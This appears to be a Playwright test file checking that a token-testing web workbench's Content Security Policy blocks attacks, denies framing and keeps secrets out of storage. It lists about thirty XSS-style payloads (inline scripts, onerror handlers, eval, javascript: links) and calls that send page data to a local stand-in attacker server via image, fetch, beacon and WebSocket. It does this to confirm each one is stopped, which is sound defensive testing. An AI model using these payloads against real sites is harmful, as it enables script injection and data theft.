import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { expect, test } from './host-fixture.ts';
import { HistoryScreen } from './pages/history-screen.ts';
import { ResultPane } from './pages/result-pane.ts';
import { Workbench } from './pages/workbench.ts';

/** Another origin of this machine: takes note of whoever calls it, and serves what an attacker would. */
async function attacker() {
  const requests: string[] = [];
  let framed = '';
  const server = createServer((message, response) => {
    const path = message.url ?? '';
    requests.push(`${message.method} ${path}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', path === '/frame' ? 'text/html' : path.endsWith('.css') ? 'text/css' : 'text/javascript');
    response.end(
      path === '/frame'
        ? `<iframe id="theirs" src="${framed}"></iframe>`
        : path.endsWith('.css')
          ? 'body { color: red }'
          : 'window.hacked = "external";',
    );
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const origin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
  return {
    origin,
    requests,
    frame: (url: string) => {
      framed = url;
      return `${origin}/frame`;
    },
    close: () => server.closeAllConnections() ?? server.close(),
  };
}

/** What a script in the page can try; `code` runs there, with the attacker's origin in `evil`. */
interface Attempt {
  readonly what: string;
  /** The directives of which one must be named in the report. */
  readonly blockedBy: readonly string[];
  readonly code: string;
}

/** The page has no inline code of its own, so what a hole would let through would set this. */
const hacked = 'window.hacked = 1';
const element = (tag: string, assign: string) => `const it = document.createElement('${tag}'); ${assign}; document.body.append(it)`;

const attempts: readonly Attempt[] = [
  { what: 'an inline script', blockedBy: ['script-src-elem'], code: element('script', `it.textContent = '${hacked}'`) },
  {
    what: 'a script with a guessed nonce',
    blockedBy: ['script-src-elem'],
    code: element('script', `it.nonce = 'AAAAAAAAAAAAAAAAAAAAAA=='; it.textContent = '${hacked}'`),
  },
  {
    what: 'an inline handler',
    blockedBy: ['script-src-attr'],
    code: `${element('button', `it.setAttribute('onclick', '${hacked}')`)}; it.click()`,
  },
  {
    what: 'a handler in markup',
    blockedBy: ['script-src-attr'],
    code: element('div', `it.innerHTML = '<img src="data:," onerror="${hacked}"><svg onload="${hacked}">'`),
  },
  { what: 'eval', blockedBy: ['script-src'], code: `eval('${hacked}')` },
  { what: 'a function made of text', blockedBy: ['script-src'], code: `new Function('${hacked}')()` },
  { what: 'a timer with text', blockedBy: ['script-src'], code: `setTimeout('${hacked}')` },
  { what: 'a javascript: link', blockedBy: ['script-src-elem'], code: `${element('a', `it.href = 'javascript:${hacked}'`)}; it.click()` },
  { what: 'a script of another origin', blockedBy: ['script-src-elem'], code: element('script', `it.src = evil + '/script.js'`) },
  { what: 'a script in a data: URL', blockedBy: ['script-src-elem'], code: element('script', `it.src = 'data:text/javascript,${hacked}'`) },
  { what: 'a module of another origin', blockedBy: ['script-src-elem'], code: `import(evil + '/module.js')` },
  { what: 'a worker made of text', blockedBy: ['worker-src', 'script-src'], code: `new Worker(URL.createObjectURL(new Blob(['1'])))` },
  { what: 'WebAssembly', blockedBy: ['script-src'], code: `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))` },
  { what: 'an inline style', blockedBy: ['style-src-elem'], code: element('style', `it.textContent = 'body { color: red }'`) },
  {
    what: 'a style attribute',
    blockedBy: ['style-src-attr'],
    code: element('div', `it.setAttribute('style', 'background: url(' + evil + '/style.png)')`),
  },
  {
    what: 'a style sheet of another origin',
    blockedBy: ['style-src-elem'],
    code: element('link', `it.rel = 'stylesheet'; it.href = evil + '/style.css'`),
  },
  { what: 'a font of another origin', blockedBy: ['font-src'], code: `new FontFace('x', 'url(' + evil + '/font.woff2)').load()` },
  { what: 'an image of another origin', blockedBy: ['img-src'], code: `new Image().src = evil + '/pixel.png?' + document.title` },
  { what: 'a sound of another origin', blockedBy: ['media-src', 'default-src'], code: `new Audio(evil + '/sound.mp3').play()` },
  { what: 'fetch', blockedBy: ['connect-src'], code: `fetch(evil + '/fetch', { method: 'POST', body: 'x' })` },
  { what: 'XMLHttpRequest', blockedBy: ['connect-src'], code: `const it = new XMLHttpRequest(); it.open('GET', evil + '/xhr'); it.send()` },
  { what: 'a beacon', blockedBy: ['connect-src'], code: `navigator.sendBeacon(evil + '/beacon', 'x')` },
  { what: 'a stream of events', blockedBy: ['connect-src'], code: `new EventSource(evil + '/events')` },
  { what: 'a WebSocket', blockedBy: ['connect-src'], code: `new WebSocket(evil.replace('http', 'ws') + '/socket')` },
  {
    what: 'a form to another origin',
    blockedBy: ['form-action'],
    code: `${element('form', `it.method = 'post'; it.action = evil + '/form'`)}; it.submit()`,
  },
  { what: 'a form to ourselves', blockedBy: ['form-action'], code: `${element('form', `it.action = '/'`)}; it.submit()` },
  {
    what: 'another base',
    blockedBy: ['base-uri'],
    code: `const it = document.createElement('base'); it.href = evil; document.head.append(it)`,
  },
  { what: 'a frame of another origin', blockedBy: ['frame-src', 'default-src'], code: element('iframe', `it.src = evil + '/frame'`) },
  {
    what: 'a frame with a script in it',
    blockedBy: ['script-src-elem'],
    code: element('iframe', `it.srcdoc = '<script>parent.${hacked.replace('window.', '')}</' + 'script>'`),
  },
  { what: 'a frame of ourselves', blockedBy: ['frame-src', 'default-src'], code: element('iframe', `it.src = '/'`) },
  { what: 'a plug-in', blockedBy: ['object-src', 'default-src'], code: element('object', `it.data = evil + '/object'`) },
];

/** Makes the attempt from a task of the page's own (what the debugger runs may do more) and gives the directives that were reported. */
async function attempt(target: Page, code: string, evil: string): Promise<string[]> {
  return target.evaluate(
    ([code, evil]) =>
      new Promise<string[]>((resolve) => {
        const reported: string[] = [];
        const listen = (event: SecurityPolicyViolationEvent) => reported.push(event.effectiveDirective);
        // Frames made by an attempt report in their own document.
        document.addEventListener('securitypolicyviolation', listen);
        const finish = () => {
          document.removeEventListener('securitypolicyviolation', listen);
          resolve(reported);
        };
        const act = (window as unknown as Record<string, (evil: string) => unknown>)[code ?? ''];
        setTimeout(() => {
          try {
            Promise.resolve(act?.(evil ?? '')).catch(() => {});
          } catch {}
          setTimeout(finish, 150);
        });
      }),
    [code, evil],
  );
}

test('a page that is attacked: its nonce, its frame, and whatever a script in it can try', async ({ page, host }) => {
  // A tab of its own: the reports of attempts that were stopped are wanted there.
  const target = await page.context().newPage();

  await test.step('each load has a nonce of its own, which the page does not give away', async () => {
    const nonces: string[] = [];
    for (let load = 0; load < 3; load++) {
      const answered = target.waitForResponse(
        (response) => new URL(response.url()).pathname === '/' && response.request().isNavigationRequest(),
      );
      await (load === 0 ? host.open(target) : target.reload());
      const policy = (await answered).headers()['content-security-policy'] ?? '';
      const inPolicy = [...policy.matchAll(/'nonce-([^']+)'/g)].map(([, nonce]) => nonce ?? '');
      expect(new Set(inPolicy).size).toBe(1);
      expect(policy).not.toMatch(/unsafe|\*|https?:/);
      nonces.push(inPolicy[0] ?? '');
      expect(Buffer.from(inPolicy[0] ?? '', 'base64').length).toBeGreaterThanOrEqual(16);
      // Readable by the scripts that were let in, and by no selector of a style sheet.
      expect(await target.evaluate(() => document.querySelector<HTMLElement>('meta[nonce]')?.nonce)).toBe(inPolicy[0]);
      expect(await target.evaluate(() => document.querySelector('meta[nonce]')?.getAttribute('nonce'))).toBe('');
    }
    expect(new Set(nonces).size).toBe(3);
  });

  await test.step('the page cannot be framed: the host refuses, and where it did not the browser would', async () => {
    const trap = await page.context().newPage();
    const evil = await attacker();
    const url = new URL('/', target.url()).href;
    const framed = async () => {
      await trap.goto(evil.frame(url));
      const frame = trap.frames().find((one) => one !== trap.mainFrame());
      await frame?.waitForLoadState();
      return { url: frame?.url(), content: (await frame?.content()) ?? '' };
    };
    expect((await framed()).content).toContain('another site embeds it');

    // The same page as the host gives it to a tab, put where the frame asks for it.
    const { headers, body } = await page.request
      .get(url)
      .then(async (answer) => ({ headers: answer.headers(), body: await answer.body() }));
    expect(body.toString()).toContain('id="root"');
    await trap.route(url, (route) => route.fulfill({ status: 200, headers, body }));
    const second = await framed();
    expect(second.url).toContain('chrome-error:');
    expect(second.content).not.toContain('id="root"');
    evil.close();
    await trap.close();
  });

  await test.step('nothing that was not served with the page runs, loads or leaves', async () => {
    const evil = await attacker();
    await expect(target.getByRole('button', { name: 'Start the playground' })).toBeVisible();
    // Defined through the debugger, which no policy binds; called later by the page itself.
    for (const [index, { code }] of attempts.entries()) await target.evaluate(`window.attempt${index} = (evil) => { ${code} }`);

    for (const [index, { what, blockedBy }] of attempts.entries()) {
      const reported = await attempt(target, `attempt${index}`, evil.origin);
      if (!what.includes('with a script in it'))
        expect(
          reported.filter((directive) => blockedBy.includes(directive)),
          what,
        ).not.toEqual([]);
      expect(await target.evaluate('window.hacked'), what).toBeUndefined();
    }
    expect(evil.requests).toEqual([]);
    expect(await target.evaluate(() => document.baseURI)).toBe(target.url());
    evil.close();
  });
});

test('the workbench itself works through all its screens without one violation, and talks to nobody else', async ({ page, host }) => {
  const violations: string[] = [];
  const elsewhere: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    const report = (window as unknown as { reportViolation(text: string): void }).reportViolation;
    document.addEventListener('securitypolicyviolation', (event) =>
      report(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`),
    );
  });
  await host.open(page);
  const own = new URL(page.url()).origin;
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(own) && !url.startsWith('data:')) elsewhere.push(url);
  });
  const workbench = new Workbench(page);
  const pane = new ResultPane(page);

  await workbench.startPlayground();
  await workbench.profiles.select('Machine client');
  for (const fold of await page.locator('details > summary').all()) await fold.click();
  await workbench.form.choose(workbench.form.authentication, /client_secret_post/);
  await workbench.form.choose(workbench.form.authentication, /client_secret_basic · form/);
  await page.keyboard.press('Control+Enter');
  await expect(workbench.token('Access token')).toContainText('signature valid');
  for (const tab of ['Verdicts', 'Exchanges', 'Tokens'] as const) await pane.open(tab);
  await pane.card('Access token').getByRole('button', { name: 'Reveal Access token' }).click();
  await workbench.profiles.row('Machine client').click({ button: 'right' });
  await page.keyboard.press('Escape');
  await workbench.goTo('Inspector');
  await page.getByRole('button', { name: 'Try a sample token' }).click();
  await page.getByRole('radiogroup', { name: 'Task' }).getByText('Edit', { exact: true }).click();
  await expect(page.getByRole('textbox', { name: 'Claims' })).toBeVisible();
  for (const section of ['Environments', 'History', 'Settings', 'Workbench'] as const) await workbench.goTo(section);
  await new HistoryScreen(page).open();
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Sections' })).toBeVisible();

  expect(violations).toEqual([]);
  expect(elsewhere).toEqual([]);
  const kept = await page.evaluate(() => ({ cookies: document.cookie, local: { ...localStorage }, session: Object.keys(sessionStorage) }));
  expect(kept.cookies).toBe('');
  expect(kept.session).toEqual(['grantbench.bearer']);
  expect(Object.keys(kept.local).filter((name) => /token|secret|bearer/i.test(name))).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
});
